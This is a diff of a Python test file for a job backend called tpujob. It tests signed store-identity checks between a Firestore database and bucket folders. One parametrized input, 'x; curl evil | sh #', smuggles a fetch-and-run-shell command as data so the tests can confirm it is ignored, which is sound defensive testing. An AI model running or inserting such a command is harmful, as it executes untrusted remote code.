@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+import logging
 import os
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from dataclasses import replace
 from pathlib import Path
 
@@ -16,8 +17,10 @@ from tpujob.adapters.firestore import Firestore, FirestoreStore
 from tpujob.adapters.sqlite import SqliteStore
 from tpujob.config import settings as settings_module
 from tpujob.config.settings import Settings, prepare
-from tpujob.errors import StoreError, Transient
-from tpujob.wiring.store import OBJECT, check_database, open_file
+from tpujob.errors import Refused, StoreError, Transient
+from tpujob.protocol import signing
+from tpujob.wiring import store as wiring
+from tpujob.wiring.store import OBJECT, open_file
 
 
 @pytest.fixture
@@ -120,25 +123,41 @@ def database(place: str) -> FirestoreStore:
     return FirestoreStore(Firestore(project, endpoint=endpoint))
 
 
+def key(purpose: Sequence[str]) -> str:
+    return signing.derive(b"a secret of the backend", *purpose)
+
+
+def check_database(store: FirestoreStore, bucket: Bucket, settings: Settings) -> None:
+    wiring.check_database(store, bucket, FOLDERS, settings, key)
+
+
 def test_a_database_that_was_made_again_is_refused_by_what_its_buckets_keep(
     firestore_place: str, bucket: Bucket, settings: Settings
 ) -> None:
     first = database(firestore_place)
-    check_database(first, bucket, FOLDERS, settings)
+    check_database(first, bucket, settings)
     first.create(a_job(), an_event())
-    assert {bucket.get(f"{one}/{OBJECT}", timeout=1).decode() for one in FOLDERS} == {
-        first.identity()
-    }
-    check_database(database(firestore_place), bucket, FOLDERS, settings)
+    copies = [bucket.get(f"{one}/{OBJECT}", timeout=1).decode() for one in FOLDERS]
+    assert {copy.split()[0] for copy in copies} == {first.identity()}
+    check_database(database(firestore_place), bucket, settings)
     again = database(firestore_place + "-again")
     for _ in range(2):
         with pytest.raises(StoreError, match=f"is lost.*{first.identity()}") as raised:
-            check_database(again, bucket, FOLDERS, settings)
-        assert f"TPUJOB_REPLACE_STORE={first.identity()}" in raised.value.hint
-    check_database(again, bucket, FOLDERS, replace(settings, replace_store=first.identity()))
-    check_database(again, bucket, FOLDERS, settings)
+            check_database(again, bucket, settings)
+        both = f"belongs to store {first.identity()}, but the Firestore database is store {again.identity()}"
+        assert f"{FOLDERS[0]} {both}" in raised.value.message
+        assert f"`tpujob up --replace-store {first.identity()}`" in raised.value.hint
+    with pytest.raises(StoreError) as raised:
+        check_database(again, bucket, replace(settings, service="tpujob"))
+    assert "tpujob up" not in raised.value.hint, "no command of this machine reaches a deployed one"
+    assert (
+        "`gcloud run services update tpujob --region=REGION "
+        f"--update-env-vars=TPUJOB_REPLACE_STORE={first.identity()}`" in raised.value.hint
+    )
+    check_database(again, bucket, replace(settings, replace_store=first.identity()))
+    check_database(again, bucket, settings)
     with pytest.raises(StoreError):
-        check_database(first, bucket, FOLDERS, settings)
+        check_database(first, bucket, settings)
 
 
 def test_an_empty_database_beside_objects_of_jobs_is_refused_and_a_used_one_is_taken(
@@ -147,9 +166,9 @@ def test_an_empty_database_beside_objects_of_jobs_is_refused_and_a_used_one_is_t
     bucket.put(f"{FOLDERS[1]}/u/ada/jobs/000001/outputs/x", b"", timeout=1)
     store = database(firestore_place)
     with pytest.raises(StoreError, match="with the id unknown"):
-        check_database(store, bucket, FOLDERS, settings)
+        check_database(store, bucket, settings)
     store.create(a_job(), an_event())
-    check_database(store, bucket, FOLDERS, settings)
+    check_database(store, bucket, settings)
 
 
 def test_an_empty_database_is_not_taken_for_new_while_its_bucket_does_not_answer(
@@ -161,6 +180,77 @@ def test_an_empty_database_is_not_taken_for_new_while_its_bucket_does_not_answer
     monkeypatch.setattr(bucket, "get", unavailable)
     store = database(firestore_place)
     with pytest.raises(Transient):
-        check_database(store, bucket, FOLDERS, settings)
+        check_database(store, bucket, settings)
     store.create(a_job(), an_event())
-    check_database(store, bucket, FOLDERS, settings)
+    check_database(store, bucket, settings)
+
+
+def written_by_a_program(bucket: Bucket, content: str) -> None:
+    for folder in FOLDERS:
+        bucket.put(f"{folder}/u/ada/jobs/000001-5f0c9a1e/outputs/x", b"", timeout=1)
+        bucket.put(f"{folder}/{OBJECT}", content.encode(), timeout=1)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "",
+        "0123456789abcdef",
+        "0123456789abcdef " + 64 * "0" + "\n",
+        "x; curl evil | sh #",
+        "unknown",
+        "of another folder",
+        "longer",
+    ],
+)
+def test_what_a_program_writes_in_the_place_of_the_identity_counts_as_nothing(
+    firestore_place: str,
+    bucket: Bucket,
+    settings: Settings,
+    content: str,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    other = database(firestore_place + "-other")
+    wiring.check_database(other, bucket, ["gs://eu/other", FOLDERS[0]], settings, key)
+    if content == "of another folder":
+        content = bucket.get("gs://eu/other/store-id", timeout=1).decode()
+    if content == "longer":
+        content = bucket.get(f"{FOLDERS[0]}/{OBJECT}", timeout=1).decode() + 10_000 * "x"
+    written_by_a_program(bucket, content)
+    store = database(firestore_place)
+    with pytest.raises(
+        StoreError, match="has objects of jobs, but the Firestore database"
+    ) as raised:
+        check_database(store, bucket, settings)
+    assert "--replace-store unknown`" in raised.value.hint
+    store.create(a_job(), an_event())
+    caplog.set_level(logging.WARNING)
+    check_database(store, bucket, settings)
+    assert f"{FOLDERS[0]}/{OBJECT} is ignored: this backend has not signed it" in caplog.text
+    caplog.clear()
+    check_database(store, bucket, settings)
+    assert caplog.text == "", "it has written its own over them"
+
+
+@pytest.mark.parametrize(
+    "error", [Transient("503"), Refused("403 Permission denied", cause="PERMISSION")]
+)
+def test_a_copy_that_cannot_be_written_stops_a_new_store_and_no_used_one(
+    firestore_place: str,
+    bucket: Bucket,
+    settings: Settings,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+    error: Exception,
+) -> None:
+    def fails(*_: object, **__: object) -> None:
+        raise error
+
+    monkeypatch.setattr(bucket, "put", fails)
+    store = database(firestore_place)
+    with pytest.raises(type(error)):
+        check_database(store, bucket, settings)
+    store.create(a_job(), an_event())
+    caplog.set_level(logging.WARNING)
+    check_database(store, bucket, settings)
+    assert f"{FOLDERS[1]}/{OBJECT} could not be compared or written: {error}" in caplog.text
